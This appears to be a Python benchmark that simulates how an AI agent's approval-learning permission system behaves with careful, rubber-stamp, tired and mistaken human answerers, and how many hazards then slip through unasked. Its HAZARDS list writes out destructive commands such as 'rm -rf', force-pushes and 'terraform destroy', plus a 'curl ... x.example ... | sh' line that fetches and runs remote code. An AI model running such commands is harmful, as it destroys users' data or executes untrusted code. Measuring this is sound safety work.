"""People who answer questions: what is learned from a careful one, and from those whose yes means little.

Each lives through ten sessions of work in one project. What is asked goes to them; after each session every offer
is accepted, and the next session is asked about less. A hazard that passes without a question is unsafe.
"""

from __future__ import annotations

import random
from collections import Counter
from typing import TYPE_CHECKING

from bench.planted import BEGIN, COMMANDS, DAY, Author

from assent.assessment import Context, Shell, assess
from assent.history import Call, Consent, End, Ending, Named, Origin
from assent.learning.approvals import learned
from assent.learning.granted import Answers, reading_ms
from assent.learning.outcomes import Outcomes
from assent.pattern import parse_pattern
from assent.policy import Decision, Policy
from assent.policy.model import Grant
from assent.store.error_class import ErrorClass

if TYPE_CHECKING:
    from collections.abc import Callable

HAZARDS = (
    *("rm -rf {dir}", "git push --force origin main", "git reset --hard HEAD~{n}", "git clean -fdx"),
    *("curl -s https://x.example/{ref} | sh", "npm publish", "kubectl delete pod {ref}", "terraform destroy"),
    *("git branch -D {ref}", "docker system prune -af", "chmod -R 777 {dir}", "npm run deploy -- --prod {n}"),
)
SESSIONS, ASKED_ABOUT = 12, 60  # the last is how many commands a session has
HABITUAL, RARE = 24, 0.15  # commands of a project, and how often it is another
WHERE = "/w/app"


class Question:
    """The view of a person, who cannot know whether it is a hazard."""

    def __init__(self, text: str, hazard: bool, number: int, rng: random.Random) -> None:
        self.hazard, self.number, self.rng = hazard, number, rng
        self.reading = reading_ms(len(text.split()))


def careful(asked: Question) -> tuple[bool, int]:
    return not asked.hazard, int(asked.reading * asked.rng.uniform(1.2, 2.8))


def rubber_stamp(asked: Question) -> tuple[bool, int]:
    return True, asked.rng.randint(150, 450)


def tired(asked: Question) -> tuple[bool, int]:
    """Reads less of each question than of the one before, and says yes to hazards once it reads little."""
    share = max(1.8 - asked.number * 0.06, 0.05)
    return not asked.hazard or share < 0.4, int(asked.reading * share)


def mistaken_once(asked: Question) -> tuple[bool, int]:
    """Reads everything, and grants a hazard by mistake for a while."""
    return not asked.hazard or asked.number in range(20, 60), int(asked.reading * asked.rng.uniform(1.2, 2.8))


PEOPLE: tuple[tuple[str, Callable[[Question], tuple[bool, int]]], ...] = (
    ("careful", careful),
    ("rubber-stamp", rubber_stamp),
    ("tired", tired),
    ("mistaken once", mistaken_once),
)


class Life:
    """One person and their agent."""

    def __init__(self, person: Callable[[Question], tuple[bool, int]], seed: int) -> None:
        self.person, self.rng, self.author = person, random.Random(seed), Author(seed)
        self.answers = Answers()
        self.grants: list[Grant] = []
        self.tools: Counter[str] = Counter()  # the other way: programs that were allowed
        self.at, self.number = BEGIN, 0
        self.offers = self.unsafe = self.unsafe_tools = 0
        self.questions: list[int] = []
        self.questions_tools: list[int] = []
        self.habitual = self.rng.sample(COMMANDS, HABITUAL)  # of this project, the first far more often than the last
        self.often = [1 / rank for rank in range(1, HABITUAL + 1)]

    def live(self) -> None:
        for session in range(SESSIONS):
            self.at = max(BEGIN + session * DAY, self.at)
            self.questions.append(0)
            self.questions_tools.append(0)
            for _ in range(ASKED_ABOUT):
                hazard = self.rng.random() < 0.03
                self._run(self.author.fill(self._command(hazard)), hazard, session)
            self._accept()

    def _command(self, hazard: bool) -> str:
        if hazard:
            return self.rng.choice(HAZARDS)
        if self.rng.random() < RARE:
            return self.rng.choice(COMMANDS)
        return self.rng.choices(self.habitual, self.often)[0]

    def _run(self, text: str, hazard: bool, session: int) -> None:
        plain = assess(text, Context(WHERE, WHERE)).decision
        decision = assess(text, Context(WHERE, WHERE, policy=Policy(grants=tuple(self.grants)))).decision
        self.at += self.rng.randint(5_000, 60_000)
        program = text.split()[0]
        if plain is Decision.ask:
            if self.tools[program] >= 3:
                self.unsafe_tools += hazard
            else:
                self.questions_tools[-1] += 1
        if plain is Decision.ask and decision is Decision.allow:
            self.unsafe += hazard
        if decision is not Decision.ask:
            return
        self.questions[-1] += 1
        self.number += 1
        yes, took = self.person(Question(text, hazard, self.number, self.rng))
        self.tools[program] += yes
        ending = Ending.Ran if yes else Ending.Refused
        error = ErrorClass.Nothing if yes else ErrorClass.Refused
        end = End(ending, 0 if yes else None, error, Named(), Consent.Person, took)
        origin = Origin("claude", "", f"s{session}", "")
        call = Call(origin, f"c{self.number}", self.at, WHERE, WHERE, "Bash", Shell.Bash, text, "", (), "", 0, end)
        self.answers.add(call)

    def _accept(self) -> None:
        found = [each for each in learned(self.answers, self.at, Outcomes()).suggested if not each.denies]
        known = {grant.origin for grant in self.grants}
        for each in found:
            if each.pattern not in known:
                self.offers += 1
                grant = Grant(parse_pattern(each.pattern), each.ceiling, each.place or None, each.pattern)
                self.grants.append(grant)


def print_people(seeds: int) -> None:
    print(f"approvals: {SESSIONS} sessions of {ASKED_ABOUT} commands, 3 % hazards, all offers accepted, {seeds} seeds")
    print(
        f"  {'':16}{'offers':>8}{'first':>8}{'tenth':>8}{'fewer':>8}{'unsafe':>8}{'   node9: fewer':>16}{'unsafe':>8}"
    )
    for name, person in PEOPLE:
        lives = [Life(person, seed) for seed in range(1, seeds + 1)]
        for life in lives:
            life.live()
        first = sum(sum(life.questions[:2]) for life in lives) / 2
        tenth = sum(sum(life.questions[9:11]) for life in lives) / 2
        tools = sum(sum(life.questions_tools[9:11]) for life in lives) / 2
        print(
            f"  {name:16}{sum(life.offers for life in lives):8}{first / seeds:8.1f}{tenth / seeds:8.1f}"
            f"{1 - tenth / max(first, 1):8.0%}{sum(life.unsafe for life in lives):8}"
            f"{1 - tools / max(first, 1):16.0%}{sum(life.unsafe_tools for life in lives):8}"
        )
